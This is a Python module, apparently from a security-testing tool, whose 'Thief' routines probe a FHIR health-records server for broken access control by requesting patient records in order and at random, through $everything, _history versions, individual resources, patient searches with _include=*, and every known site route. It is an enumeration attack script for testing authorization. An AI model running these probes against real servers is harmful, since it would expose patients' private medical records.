"""Reading records by their number: in order, at random, by every address that takes one, over pages and over FHIR."""

import re

from ecluse.core.words import Compartment
from ecluse.drill.thief import Thief, Tip
from ecluse.record.fhir_types import PATIENT_TYPES

VARIES = re.compile(r"<(?:\w+:)?(\w+)>")
TRIES = 40
RESOURCES = 14


def in_order(thief: Thief) -> None:
    """Read the first records, one after the other."""
    for tip in sorted(thief.known.tips, key=lambda one: one.ref)[:TRIES]:
        thief.get(f"/fhir/Patient/{tip.ref}", "read in order")


def own(thief: Thief) -> None:
    """Read the patients the victim does look after."""
    for tip in thief.known.own[:TRIES]:
        thief.get(f"/fhir/Patient/{tip.ref}", "the victim's own")


def at_random(thief: Thief) -> None:
    """Read records anywhere in the base."""
    for tip in first(thief, TRIES):
        thief.get(f"/fhir/Patient/{tip.ref}", "read at random")


def everything(thief: Thief) -> None:
    """Ask for whole records at once."""
    for tip in first(thief, TRIES // 2):
        thief.get(f"/fhir/Patient/{tip.ref}/$everything", "$everything")
        thief.post(f"/fhir/Patient/{tip.ref}/$everything", "$everything")


def versions(thief: Thief) -> None:
    """Ask for former versions, which a careless server forgets to guard."""
    for tip in first(thief, TRIES // 4):
        for end in ("_history", "_history/1", "_history/2"):
            thief.get(f"/fhir/Patient/{tip.ref}/{end}", "history")
    thief.get("/fhir/Patient/_history", "history")
    thief.get("/fhir/_history", "history")


def pieces(thief: Thief) -> None:
    """Ask for single resources, files and their versions, without asking for the patient."""
    for tip in first(thief, TRIES // 8):
        for place in range(1, RESOURCES):
            for kind in ("Encounter", "MedicationRequest", "Coverage", "Binary"):
                thief.get(f"/fhir/{kind}/{tip.ref}-{place}", "pieces")


def by_patient(thief: Thief) -> None:
    """Search each type for a patient's."""
    for tip in first(thief, TRIES // 8):
        for kind in PATIENT_TYPES:
            thief.get(f"/fhir/{kind}?patient={tip.ref}", "search by patient")
            thief.get(f"/fhir/{kind}?patient=Patient/{tip.ref}&_include=*&_revinclude=*", "search by patient")


def every_door(thief: Thief) -> None:
    """Open every address of the site, for patients one is not concerned with; press what can be pressed."""
    for tip in first(thief, 3):
        for door in thief.known.doors:
            route = f"door {door}" if "<" in door else f"page {door}"
            answer = thief.get(filled(door, thief, tip), route)
            thief.press(answer, route, tip)


def filled(door: str, thief: Thief, tip: Tip) -> str:
    """Return the address with what varies put in."""

    def value(match: re.Match[str]) -> str:
        name = match[1]
        if name in {"ref", "patient", "rid", "id", "id_"}:
            return tip.ref
        if name == "username":
            return thief.known.victim.username
        if name in {"compartment", "part"}:
            return thief.chance.choice([one.value for one in Compartment])
        return {"kind": "Patient", "type": "Encounter", "version": "1"}.get(name, "1")

    return VARIES.sub(value, door)


def first(thief: Thief, number: int) -> list[Tip]:
    """Return the next patients to try."""
    return [tip for tip, _ in zip(thief.targets(), range(number), strict=False)]
